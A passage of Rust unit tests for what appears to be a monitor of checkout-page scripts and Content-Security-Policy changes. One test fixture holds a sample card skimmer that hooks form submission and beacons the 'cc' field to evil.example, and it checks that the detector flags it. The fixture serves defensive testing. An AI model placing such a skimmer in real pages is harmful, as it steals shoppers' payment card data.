            [(FindingKind::RemovedScript, "main|inline|aaaaaaaaaa")]
        );
    }

    #[test]
    fn hints_and_added_hosts_raise_severity_and_are_listed() {
        let old = app();
        let base = baseline_of(&inventory(vec![old.clone()]));
        let new = script(
            "self:/app.js",
            ScriptKind::External,
            Some("https://shop.example/app.js"),
            "var a=1;init(a);document.forms[0].onsubmit=function(){navigator.sendBeacon('https://evil.example/c',document.forms[0].cc.value)};",
        );
        let f = compare("checkout", &inventory(vec![new]), &base, &sources(&[&old.source]));
        assert_eq!(f[0].severity, Severity::High, "medium raised by hints");
        assert!(f[0].hints.iter().any(|h| h.contains("sendBeacon")), "{:?}", f[0].hints);
        assert_eq!(f[0].added_hosts, ["evil.example"]);
        assert_eq!(f[0].added_urls, ["https://evil.example/c"]);
    }

    #[test]
    fn csp_change_names_the_directive_and_direction() {
        let mut old = inventory(vec![]);
        old.headers.insert("content-security-policy".into(), "script-src 'self'; object-src 'none'".into());
        let base = baseline_of(&old);
        let mut inv = inventory(vec![]);
        inv.headers
            .insert("content-security-policy".into(), "script-src 'self' 'unsafe-eval'; object-src 'none'".into());
        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(
            f[0].title,
            "Content-Security-Policy weakened: script-src: added 'unsafe-eval' (weaker: allows injected code)"
        );
        inv.headers
            .insert("content-security-policy".into(), "script-src 'self'; object-src 'none'; base-uri 'none'".into());
        let f = compare("checkout", &inv, &base, &no_sources);
        assert_eq!(
            (f[0].severity, f[0].title.as_str()),
            (Severity::Low, "Content-Security-Policy tightened: base-uri: added (stricter)")
        );
    }
}
